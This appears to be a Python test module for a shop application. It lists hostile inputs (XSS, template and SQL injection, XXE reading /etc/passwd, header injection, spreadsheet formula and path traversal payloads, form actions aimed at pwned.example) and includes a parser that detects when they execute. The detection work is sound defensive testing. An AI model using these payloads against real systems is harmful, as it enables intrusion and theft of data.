"""Naughty strings: what somebody may write into any field of text, and a reader who notices when it was not just text.

Whatever could run says ``pwned``; whatever could be worked out gives one of ``WORKED_OUT``.
"""

import re
from html.parser import HTMLParser

RUN = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "</title></textarea></style><script>window.pwned=3</script>",
    "<img src=x onerror=window.pwned=4>",
    "<svg onload=window.pwned=5>",
    "<svg><script>window.pwned=6</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=7</script>'></iframe>",
    "<details open ontoggle=window.pwned=8>",
    "<a href=javascript:window.pwned=9>pwned</a>",
    "javascript:window.pwned=10//",
    "<!--><img src=x onerror=window.pwned=11>-->",
    "<style>@import'//pwned.example'</style>",
    "<base href=//pwned.example/>",
    "<form action=//pwned.example><input name=csrfmiddlewaretoken>",
    "<pwned>",
)
BREAK_OUT = (
    '"><img src=x onerror=window.pwned=12>',
    "'><svg/onload=window.pwned=13>",
    '" autofocus onfocus="window.pwned=14',
    "' autofocus onfocus='window.pwned=15",
    "` onmouseover=`window.pwned=16",
    '";window.pwned=17;//',
    "\\';window.pwned=18;//",
    "</option></select><img src=x onerror=window.pwned=19>",
    "&quot;&gt;&lt;img src=x onerror=window.pwned=20&gt;",
    "js:window.pwned=21",
    '{"pwned": "<img src=x onerror=window.pwned=22>"}',
)
WORK_OUT = (
    "{{ 7777*7777 }}",
    "{{ 'pw'|add:'ned out' }}",
    "{{ user.password }}",
    "{{ request.META }}",
    "{% debug %}",
    "{% include 'oscar/layout.html' %}",
    "{% load pwned %}",
    "{% endblock %}{% endif %}",
    "${7777*7777}",
    "#{7777*7777}",
    "<%= 7777*7777 %>",
    "%(pwned)s %s %d %",
    "{0.__class__.__mro__}",
    "{first_name.__class__} {pwned} {",
    "&pwned; <?xml version='1.0'?><!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/passwd'>]>",
)
HEADERS = (
    "pwned\r\nBcc: pwned@evil.example",
    "pwned\r\nX-Pwned: 1",
    "pwned\nSet-Cookie: pwned=1",
    "pwned\r\n\r\n<script>window.pwned=23</script>",
    "pwned%0d%0aX-Pwned: 1",
    "\u560d\u560aX-Pwned: 1\u2028\u2029\x85",
)
LETTERS = (
    "\u202egpj.exe\u2069",  # read from right to left
    "\u200b\u200d\ufeff\u00ad",  # not seen at all
    "Wm" * 60,
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "Z̷̢a̵l̶g̸o̷",
    "İıſﬃß",
    "\ufffe\uffff\ud7ff",
    "\x01\x08\x1b[31m\x7f",
    "\\ud800\\u0000&#xD800;&#0;",
)
ELSEWHERE = (
    "'; DROP TABLE oscar_clienti_customer; --",
    "%' OR '1'='1",
    "100%_\\%\\",
    "=HYPERLINK('//pwned.example')",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\pwned.exe",
    "//pwned.example/",
    "None",
    "NaN",
    "-1e309",
    "١٢٣",
    "9" * 60,
    "[]",
)
STRINGS = (*RUN, *BREAK_OUT, *WORK_OUT, *HEADERS, *LETTERS, *ELSEWHERE)
NUL = "pwned\x00<b>"

WORKED_OUT = ("60481729", "pwned out", "class 'str'", "TemplateSyntaxError", "TemplateDoesNotExist", "root:x:0")
_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "hx-get", "hx-post"}
_ELSEWHERE = re.compile(r"\s*(javascript:|vbscript:|data:(?!image/)|(https?:)?[/\\]{2}pwned)", re.I)


def text(number: int, longest: int | None = None) -> str:
    """The string of this number, and after it as many of its followers as there is room for."""
    longest = longest or 5000
    words = STRINGS[number % len(STRINGS)][:longest]
    for step in range(1, len(STRINGS)):
        more = f"{words} {STRINGS[(number + step) % len(STRINGS)]}"
        if len(more) > longest:
            break
        words = more
    return words


class _Reader(HTMLParser):
    """Gathers what of a page is not just text although somebody wrote it."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.words: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag, attributes):
        given = {name: value or "" for name, value in attributes}
        script = tag == "script" and "json" not in given.get("type", "")
        self._inside = tag if script or tag == "style" else ""
        if tag in ("pwned", "base") or (tag == "iframe" and "srcdoc" in given and "sandbox" not in given):
            self.faults.append(f"<{tag}>")
        self.faults += faults_in(given["srcdoc"]) if "srcdoc" in given else []
        for name, value in given.items():
            if self._runs(name, value):
                self.faults.append(f"<{tag} {name}={value[:80]!r}>")

    def handle_endtag(self, tag):
        self._inside = ""

    def handle_data(self, words):
        if self._inside and "pwned" in words:
            self.faults.append(f"<{self._inside}> {words[:80]!r}")
        self.words.append(words)

    @staticmethod
    def _runs(name, value):
        if name in _ADDRESSES:
            return _ELSEWHERE.match(value)
        if name == "hx-vals":
            return value.strip().startswith(("js:", "javascript:"))
        return "pwned" in name or ((name.startswith(("on", "hx-on")) or name == "style") and "pwned" in value)


def faults_in(html: str) -> list[str]:
    """What in a page is more than text."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    words = "".join(reader.words)
    twice = [mark for mark in ("&amp;lt;script&amp;gt;", "&amp;#x27;") if mark in html]
    return [
        *reader.faults,
        *(f"worked out: {word}" for word in WORKED_OUT if word in words),
        *(f"escaped twice: {mark}" for mark in twice),
    ]


def words_of(html: str) -> str:
    """What is read on a page."""
    reader = _Reader()
    reader.feed(html)
    return "".join(reader.words)


def faults_of(response) -> list[str]:
    """The same of an answer of the shop: its headers, too."""
    body = response.getvalue() if getattr(response, "streaming", False) else response.content
    headers = [f"header {name}: {value}" for name, value in response.headers.items() if _foreign(name, value)]
    cookies = [f"cookie {name}" for name in response.cookies if "pwned" in name]
    is_page = response.headers.get("Content-Type", "").startswith("text/html")
    return [*headers, *cookies, *(faults_in(body.decode()) if is_page else [])]


def faults_of_mail(message) -> list[str]:
    """The same of an e-mail that was sent."""
    sent = message.message()
    headers = [f"header {name}: {value}" for name, value in sent.items() if _foreign(name, value)]
    return [
        *headers,
        *(f"to {address}" for address in message.recipients() if "evil" in address),
        *(f"worked out: {word}" for word in WORKED_OUT if word in message.body),
        *(
            fault
            for words, kind in getattr(message, "alternatives", [])
            if "html" in kind
            for fault in faults_in(words)
        ),
    ]


def _foreign(name: str, value: str) -> bool:
    return name.lower() in ("x-pwned", "bcc") or "\n" in value.replace("\n ", "").replace("\n\t", "")
